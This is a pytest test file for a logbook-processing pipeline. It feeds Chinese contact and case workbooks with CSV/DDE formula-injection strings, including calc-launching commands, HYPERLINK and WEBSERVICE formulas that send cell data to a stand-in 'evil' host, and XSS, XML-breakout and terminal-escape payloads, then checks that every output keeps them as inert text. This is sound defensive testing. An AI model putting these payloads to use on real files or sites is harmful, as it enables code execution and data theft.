"""A month of logbooks whose texts are formulas, links and markup: all that is written holds them as text alone."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from pipeline.language.errors import ExitCode
from tests.door.test_cli import tierbook
from tests.fixtures import books

pytestmark = pytest.mark.heavy  # two runs of the command

SIGN = "8841"  # stands in every hostile text and nowhere else
PAYLOADS = (
    f"=cmd|'/c calc{SIGN}'!A1",
    f'=HYPERLINK("http://evil{SIGN}.example/?x="&A1,"点我")',
    f'=WEBSERVICE("http://evil{SIGN}.example")',
    f"+1{SIGN}+cmd|'/c calc'!A1",
    f"-1{SIGN}-2",
    f"@SUM(1{SIGN}+1)",
    f"{{=SUM(A1:A{SIGN})}}",
    f"\t=1+{SIGN}",
    f"http://evil{SIGN}.example/a",
    f"internal:'Sheet'!A{SIGN}",
    f"external:evil{SIGN}.xlsx",
    f"mailto:evil{SIGN}@example.com",
    f"<script>alert({SIGN})</script>",
    f'"><img src=x onerror=alert({SIGN})>',
    f"]]><f>{SIGN}</f>",
    f"x\x1b[31m{SIGN}\x07_x000D_",
    f'"&{SIGN}&"',
    "长" * 33_000 + SIGN,
)
CONTACTS = ("日期", "客户", "沟通方式", "事由", "结果", "经办人", "沟通内容", "后续事项")
CASES = ("编号", "类别", "客户", "受理方式", "受理时间", "受理人", "事项摘要", "办理结果")
RUNS = re.compile(rb"<(?:\w+:)?(f|formula|formula1|formula2|definedName)\b[^>]*>([^<]*)<")
LEADS = re.compile(rb'Target="([^"]*)"[^>]*TargetMode="External"|TargetMode="External"[^>]*Target="([^"]*)"')
LITERAL = re.compile(r'"(?:[^"]|"")*"')
FORBIDDEN = ("externallink", "vbaproject", "embeddings", "activex", "macrosheets", "connections")


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of everything written of a month like that: reports, returned logbooks, logbooks of the next one."""
    root = tmp_path_factory.mktemp("hostile")
    (root / "logbooks").mkdir()
    (root / "tierbook.yaml").write_text("company: 某公司\nregulations:\n  - equity_listing\n", "utf-8")
    register(root / "register.xlsx")
    rows = [contact(number, text) for number, text in enumerate(PAYLOADS)]
    wrong = [(date(2026, 10, 12), text, text, text, text, text, text, text) for text in PAYLOADS]
    books.openpyxl_book(root / "logbooks" / f"联系记录_王志强_2026-10{SIGN}.xlsx", filled(CONTACTS, [*rows, *wrong]))
    books.xls(root / "logbooks" / f"\"&cmd|'&c calc{SIGN}'!A1&\".xls", [CONTACTS, *map(texts, wrong[:3])], "联系记录")
    books.openpyxl_book(
        root / "logbooks" / "受理记录_王志强_2026-10.xlsx", filled(CASES, map(case, PAYLOADS), "受理记录")
    )
    for words in (("run", root, "--month", "2026-10", "--as-of", "2026-11-12"), ("issue", "2026-11", "-w", root)):
        done = tierbook(*words)
        assert done.returncode in (ExitCode.CLEAN, ExitCode.FINDINGS), done.stderr
        assert "\x1b[31m" not in done.stdout + done.stderr
    return root / "output"


def register(path: Path) -> None:
    book = openpyxl.Workbook()
    book.remove(book.active)
    clients = [
        (f"C{n:04}", plain(f"{text}公司"), "", "业务一部", "王志强", date(2025, 1, 6))
        for n, text in enumerate(PAYLOADS[:-1], 1)
    ]
    sheets = {
        "员工": [
            ("工号", "姓名", "部门", "岗位"),
            ("YW01", "王志强", "业务一部", "业务人员"),
            ("YW02", f"=1+{SIGN}", "业务一部", "业务人员"),
        ],
        "客户": [("客户编号", "客户名称", "简称", "所属部门", "开发人", "加入日期"), *clients],
        "层级": [("客户", "层级", "开始日期")],
        "归属": [("客户", "角色", "员工", "开始日期")],
    }
    for name, rows in sheets.items():
        fill(book.create_sheet(name), rows)
    book.save(path)


def filled(head, rows, sheet="联系记录"):
    def make(book):
        book.active.title = sheet
        fill(book.active, [head, *rows])

    return make


def fill(sheet, rows):
    """Texts as texts, whatever they look like."""
    for at, row in enumerate(rows, 1):
        for column, value in enumerate(row, 1):
            cell = sheet.cell(at, column)
            cell.value = plain(value) if isinstance(value, str) else value
            if isinstance(value, str):
                cell.data_type = "s"


def plain(text: str) -> str:
    return openpyxl.utils.escape.escape(text).replace("\x1b", "_x001B_").replace("\x07", "_x0007_")


def contact(number: int, text: str):
    return (date(2026, 10, 9), f"C{number % 17 + 1:04}", "走访", "日常沟通", "已沟通", "王志强", text, text)


def case(text: str):
    number = PAYLOADS.index(text)
    return (f"TS{number}", "投诉", f"C{number % 17 + 1:04}", "电话", "2026-10-09 09:30", "王志强", text, text)


def texts(row):
    return [str(value)[:30_000] for value in row]


def parts(folder: Path) -> Iterator[tuple[Path, str, bytes]]:
    """Every part of every workbook."""
    for path in sorted(folder.rglob("*.xls[xm]")):
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                yield path, name, archive.read(name)


def test_all_kinds_of_workbooks_are_written(written: Path) -> None:
    assert [*written.glob("2026-10/*.xlsx")]
    assert [*written.glob("2026-10/returned/*.xlsx")]
    assert [*written.glob("**/issued/**/*.xlsx")] or [*written.glob("2026-11/**/*.xlsx")]
    assert any(SIGN.encode() in content for _, _, content in parts(written))  # it is there, as text


def test_no_formula_comes_from_a_text(written: Path) -> None:
    for path, name, content in parts(written):
        for kind, body in RUNS.findall(content):
            formula = body.decode().replace("&quot;", '"').replace("&amp;", "&")
            bare = LITERAL.sub('""', formula)
            assert SIGN not in bare, (path.name, name, kind, formula)
            assert "evil" not in formula.partition(",")[0], (path.name, name, formula)


def test_nothing_leads_out_and_nothing_runs(written: Path) -> None:
    for path, name, content in parts(written):
        assert not any(word in name.lower() for word in FORBIDDEN), (path.name, name)
        assert b"ddeLink" not in content
        for targets in LEADS.findall(content):
            assert b"evil" not in b"".join(targets), (path.name, name, targets)
            assert not b"".join(targets).startswith((b"http", b"mailto", b"\\\\")), (path.name, name, targets)


def test_every_workbook_opens_and_its_texts_are_whole(written: Path) -> None:
    for path in sorted(written.rglob("*.xlsx")):
        for sheet in openpyxl.load_workbook(path):
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        assert SIGN not in LITERAL.sub('""', str(cell.value)), (path.name, cell.coordinate, cell.value)


def test_the_page_holds_no_markup_from_a_text(written: Path) -> None:
    pages = [path.read_text("utf-8") for path in written.rglob("*.html")]
    assert pages
    for page in pages:
        assert f"<script>alert({SIGN})" not in page
        assert f"<img src=x onerror=alert({SIGN})" not in page
        assert not re.search(rf'href="(http|mailto|javascript)[^"]*{SIGN}', page)
